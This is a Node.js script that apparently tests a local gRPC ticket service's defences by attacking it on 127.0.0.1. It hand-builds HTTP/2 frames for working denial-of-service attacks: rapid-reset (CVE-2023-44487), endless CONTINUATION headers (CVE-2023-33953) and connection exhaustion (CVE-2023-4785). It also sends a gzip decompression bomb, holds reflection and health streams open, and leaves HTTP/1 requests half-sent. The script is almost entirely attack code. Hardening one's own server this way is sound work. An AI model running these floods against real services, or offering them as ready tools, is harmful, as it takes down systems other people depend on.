// A stranger without a token, who means harm. Ends with 0 once that is done, whatever the server made of it, and prints
// what it came to.
//
//   node strangers.mjs ATTACK PORT SECONDS [tls] [from=ADDRESS]
//
// Attacks: see `attacks` below. HTTP/2 is written by hand, since no library would send it.

import http2 from 'node:http2';
import net from 'node:net';
import {setTimeout as pause} from 'node:timers/promises';
import tls from 'node:tls';
import {gzipSync} from 'node:zlib';

const [attack, port, seconds, ...words] = process.argv.slice(2);
const localAddress = words.find((word) => word.startsWith('from='))?.slice('from='.length);
const end = Date.now() + 1000 * Number(seconds);
const ended = () => Date.now() >= end;

const [kData, kHeaders, kReset, kSettings, kContinuation] = [0, 1, 3, 4, 9];
const [kEndStream, kEndHeaders] = [1, 4];

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

// A field that is not indexed, as HPACK has it; both shorter than 127 bytes.
const literal = (name, value) => Buffer.concat(
    [Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);

const headersOf = (path, others = {}) => Buffer.concat([
  Buffer.from([0x83, 0x86]), // :method POST, :scheme http
  ...Object.entries({
             ':path': path,
             ':authority': 'desk',
             'content-type': 'application/grpc',
             te: 'trailers',
             ...others,
           }).map(([name, value]) => literal(name, value)),
]);
const getTicket = headersOf('/luukku.ticket.v1.TicketService/GetTicket');
const emptyMessage = Buffer.alloc(5);
const cancel = Buffer.from([0, 0, 0, 8]);

// A connection that has been begun as HTTP/2, or `begins: false` not at all. `write` waits until the bytes have left;
// false once the connection has ended.
async function connect({begins = true} = {}) {
  const options = {port: Number(port), host: '127.0.0.1', localAddress};
  const socket = words.includes('tls') ?
      tls.connect({...options, rejectUnauthorized: false, ALPNProtocols: ['h2']}) :
      net.connect(options);
  let open = true;
  const gone = new Promise((resolve) => socket.on('close', () => resolve(open = false)));
  socket.on('error', () => {});
  socket.resume();
  const write = (bytes) => open ?
      Promise.race([gone, new Promise((sent) => socket.write(bytes, () => sent(open)))]) :
      Promise.resolve(false);
  if (begins) await write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(kSettings, 0, 0)]));
  return {write, isOpen: () => open, close: () => socket.destroy()};
}

const times = (count, make) => Promise.all(Array.from({length: count}, (_, i) => make(i)));

// Calls by three connections, as many as go: of each hundred, what `begin` makes of a stream's number is written, then
// what `follow` makes, if there is one.
async function flood(begin, follow) {
  let calls = 0;
  await times(3, async () => {
    while (!ended()) {
      const connection = await connect();
      for (let first = 1; !ended() && connection.isOpen(); first += 200) {
        const streams = Array.from({length: 100}, (_, i) => first + 2 * i);
        await connection.write(Buffer.concat(streams.map(begin)));
        await pause(follow ? 20 : 0);
        if (follow) await connection.write(Buffer.concat(streams.map(follow)));
        calls += streams.length;
      }
      connection.close();
      await pause(1);
    }
  });
  return `${calls} calls`;
}

// Opens `streams` calls of a method, and leaves them open, on each of 16 connections.
async function leaveOpen(path, streams) {
  const headers = headersOf(path);
  const connections = await times(16, async () => {
    const connection = await connect();
    for (let i = 0; i < streams; ++i) {
      await connection.write(Buffer.concat([
        frame(kHeaders, kEndHeaders, 2 * i + 1, headers), frame(kData, kEndStream, 2 * i + 1, emptyMessage)
      ]));
    }
    return connection;
  });
  await pause(end - Date.now());
  return `${16 * streams} calls; ${connections.filter((one) => one.isOpen()).length} connections open`;
}

// Holds 1300 connections.
async function holdConnections(options) {
  const connections = await times(1300, () => connect(options));
  await pause(end - Date.now());
  const open = connections.filter((one) => one.isOpen()).length;
  return `${connections.length} connections; ${open} open`;
}

const attacks = {
  // CVE-2023-44487: calls that are taken back in the same breath, without a message.
  'rapid-reset': () => flood(
      (stream) => Buffer.concat([
        frame(kHeaders, kEndHeaders | kEndStream, stream, getTicket), frame(kReset, 0, stream, cancel)
      ])),

  // The same with a whole message, and a moment later, when a proxy may have handed it on.
  'late-reset': () => flood(
      (stream) => Buffer.concat(
          [frame(kHeaders, kEndHeaders, stream, getTicket), frame(kData, kEndStream, stream, emptyMessage)]),
      (stream) => frame(kReset, 0, stream, cancel)),

  // CVE-2023-33953: header blocks that never end, of up to 12 MB on each of eight connections, again and again.
  'endless-headers': async () => {
    const field = Buffer.concat([Buffer.from([0, 3]), Buffer.from('x-a'), Buffer.from([125]), Buffer.alloc(125, 'y')]);
    const block = frame(kContinuation, 0, 1, Buffer.concat(Array(100).fill(field)));
    let bytes = 0;
    const connections = [];
    while (!ended() && bytes < 960e6) {
      await times(8, async () => {
        const connection = await connect();
        connections.push(connection);
        await connection.write(frame(kHeaders, 0, 1, Buffer.from([0x83, 0x86])));
        for (let sent = 0; sent < 12 << 20 && !ended() && await connection.write(block); sent += block.length) {
          bytes += block.length;
        }
      });
      await pause(100);
    }
    await pause(end - Date.now());
    return `${bytes >> 20} MiB; ${connections.filter((one) => one.isOpen()).length} of ${connections.length} connections open`;
  },

  // CVE-2023-4785: more connections than there are descriptors; that say nothing, or begin as they should.
  'connections': () => holdConnections({begins: false}),
  'begun-connections': () => holdConnections({begins: true}),

  // 100 MiB of zeros in 102 kB, to a method and to health, again and again.
  'zeros': async () => {
    const packed = gzipSync(Buffer.alloc(100 << 20));
    const prefix = Buffer.from([1, 0, 0, 0, 0]);
    prefix.writeUInt32BE(packed.length, 1);
    const message = Buffer.concat([prefix, packed]);
    const begin = () => {
      const session = http2.connect(
          `${words.includes('tls') ? 'https' : 'http'}://127.0.0.1:${port}`, {rejectUnauthorized: false, localAddress});
      session.on('error', () => {});
      return session;
    };
    const answers = {};
    const send = (session, path) => new Promise((resolve) => {
      const headers = {':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers'};
      const stream = session.request({...headers, 'grpc-encoding': 'gzip'});
      const count = (status) => {
        if (status !== undefined) answers[status] = (answers[status] ?? 0) + 1;
      };
      stream.on('response', (answer) => count(answer['grpc-status']));
      stream.on('trailers', (trailers) => count(trailers['grpc-status']));
      stream.on('error', () => {});
      stream.on('close', resolve);
      stream.resume();
      stream.end(message);
    });
    while (!ended()) {
      const session = begin();
      await send(session, '/luukku.ticket.v1.TicketService/CreateTicket');
      if (!session.destroyed) await send(session, '/grpc.health.v1.Health/Check');
      session.destroy();
    }
    return `gRPC's codes of answers: ${JSON.stringify(answers)}`;
  },

  // A thread a stream, if reflection is on.
  'reflection': () => leaveOpen('/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo', 250),
  'watch-health': () => leaveOpen('/grpc.health.v1.Health/Watch', 250),

  // Requests of HTTP/1 that never end.
  'half-sent': async () => {
    const connections = await times(8, async () => {
      const connection = await connect({begins: false});
      await connection.write('GET /metrics HTTP/1.1\r\nHost: desk\r\n');
      return connection;
    });
    await pause(end - Date.now());
    return `${connections.filter((one) => one.isOpen()).length} of 8 connections open`;
  },
};

console.log(`${attack}: ${await attacks[attack]()}`);
process.exit(0);
